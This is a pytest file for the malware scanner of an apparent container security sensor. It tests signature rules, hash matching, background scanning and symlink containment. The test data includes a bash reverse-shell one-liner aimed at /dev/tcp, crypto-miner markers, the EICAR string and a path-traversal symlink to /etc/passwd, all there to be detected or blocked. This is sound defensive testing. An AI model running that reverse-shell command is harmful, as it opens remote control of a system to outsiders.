"""Content checks find the markers and nothing in ordinary programs."""

from __future__ import annotations

import hashlib
import os
import threading
import time
from pathlib import Path

import pytest
from seawall.detection.indicators import Indicators
from seawall.domain.runtime_events import Loss, ScriptRun
from seawall_sensor.inside import Root
from seawall_sensor.scan import MAX_WAITING, BackgroundScanner, FileScanner

from tests.detection.runtime_events import event, raised, ran

EICAR = rb"X5O!P%@AP[4\PZX54(P^)7CC)7}$EICAR" + b"-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"
ELF = b"\x7fELF" + bytes(60)


def scanned(scanner, path):
    with path.open("rb") as file:
        return scanner.scan(file)


@pytest.mark.parametrize(
    ("content", "names"),
    [
        (EICAR + b" and more", ("Seawall_Test_Marker",)),
        (b"x" + EICAR, ()),
        (b"#!/bin/sh\n# SEAWALL-MALWARE-TEST-FILE-9f2c7e11\n", ("Seawall_Test_Marker",)),
        (ELF + b"stratum+tcp:// randomx donate-level", ("Miner_Program",)),
        (b"a page on stratum+tcp:// randomx donate-level", ()),
        (b"bash -i >& /dev/tcp/192.0.2.1/443 0>&1", ("Reverse_Shell_Script",)),
        (b"", ()),
    ],
)
def test_rules(tmp_path, content, names):
    file = tmp_path / "f"
    file.write_bytes(content)
    assert scanned(FileScanner(), file)[1] == names


def test_ordinary_programs_do_not_match():
    for program in ("/bin/sh", "/usr/bin/env"):
        assert scanned(FileScanner(), Path(program))[1] == ()


def test_a_listed_hash(tmp_path):
    file = tmp_path / "f"
    file.write_bytes(b"bad")
    lists = Indicators({"threat_hashes": [hashlib.sha256(b"bad").hexdigest()]})
    assert scanned(FileScanner(lists=lists), file)[1] == ("hash:threat_hashes",)


def verdicts_of(scanner, event, number=1):
    scanner.take(event)
    found = []
    end = time.monotonic() + 10
    while len(found) < number and time.monotonic() < end:
        found += scanner.results()
        time.sleep(0.01)
    return found


def test_a_drifted_program_gives_a_verdict_that_raises_an_alert(tmp_path):
    folder = tmp_path / "4000"
    folder.mkdir()
    (folder / "exe").write_bytes(EICAR + b" and more")
    scanner = BackgroundScanner(proc=tmp_path)
    (verdict,) = verdicts_of(scanner, ran("/tmp/x", drift=True, origin="upper", exe_inode=7))
    assert verdict.signatures == ("Seawall_Test_Marker",)
    assert raised("RT-0111", verdict)
    os.unlink(folder / "exe")  # noqa: PTH108 - remembered by inode
    assert verdicts_of(scanner, ran("/tmp/x", drift=True, origin="upper", exe_inode=7))
    scanner.take(ran("/usr/bin/x", exe_inode=7))
    assert scanner.results() == []
    (loss,) = verdicts_of(scanner, ran("/tmp/y", drift=True, origin="upper", exe_inode=8))
    assert isinstance(loss, Loss)
    assert (loss.stage, loss.lost) == ("scan", 1)
    scanner.close()


def test_a_script_is_read_where_its_container_lies_when_its_processes_are_gone(tmp_path):
    layer = tmp_path / "storage/c/diff/tmp"
    layer.mkdir(parents=True)
    (layer / "a.sh").write_bytes(EICAR + b" and more")
    scanner = BackgroundScanner(proc=tmp_path)
    scanner.roots = lambda _container: (f"{tmp_path}/storage/c/merged", f"{tmp_path}/storage/c/diff")
    (verdict,) = verdicts_of(scanner, event(ScriptRun, "sh /tmp/a.sh", path="/tmp/a.sh", origin="upper"))
    assert (verdict.path, verdict.signatures) == ("/tmp/a.sh", ("Seawall_Test_Marker",))
    (loss,) = verdicts_of(scanner, event(ScriptRun, "sh /tmp/b.sh", path="/tmp/b.sh", origin="upper"))
    assert (loss.stage, loss.lost) == ("scan", 1)
    (loss,) = verdicts_of(scanner, event(ScriptRun, "sh", path="-", origin="upper", pid=2**22 + 1))
    assert loss.lost == 1
    scanner.close()


def test_files_that_nobody_has_time_for_are_counted(tmp_path):
    (tmp_path / "4000").mkdir()
    (tmp_path / "4000/exe").write_bytes(ELF)
    release = threading.Event()

    class Slow(FileScanner):
        def scan(self, file):
            release.wait(10)
            return super().scan(file)

    scanner = BackgroundScanner(Slow(), proc=tmp_path)
    for inode in range(1, MAX_WAITING + 6):
        scanner.take(ran("/tmp/x", drift=True, origin="upper", exe_inode=inode))
    (loss,) = scanner.results()
    release.set()
    assert loss.lost == 5
    scanner.close()


def test_a_container_s_links_lead_nowhere_outside(tmp_path):
    """The root of this very process stands for a container's: what counts is that links stay below it."""
    (tmp_path / "1").mkdir()
    inside = tmp_path / "root"
    inside.mkdir()
    (tmp_path / "1/root").symlink_to(inside)
    (inside / "etc").mkdir()
    (inside / "etc/own").write_text("own")
    (inside / "absolute").symlink_to("/etc/own")
    (inside / "above").symlink_to("../../../../../../etc/passwd")
    os.mkfifo(inside / "pipe")
    with Root.of(1, str(tmp_path)) as root:
        assert root.read("/absolute", 100) == b"own"
        assert root.read("/above", 100_000) == b""
        assert root.read("/pipe", 100) == b""
        assert root.read("/etc/own", 2) == b""
        assert root.read("/etc/no\0", 2) == b""
        assert root.names("/etc") == ["own"]
        assert root.names("/absolute") == []
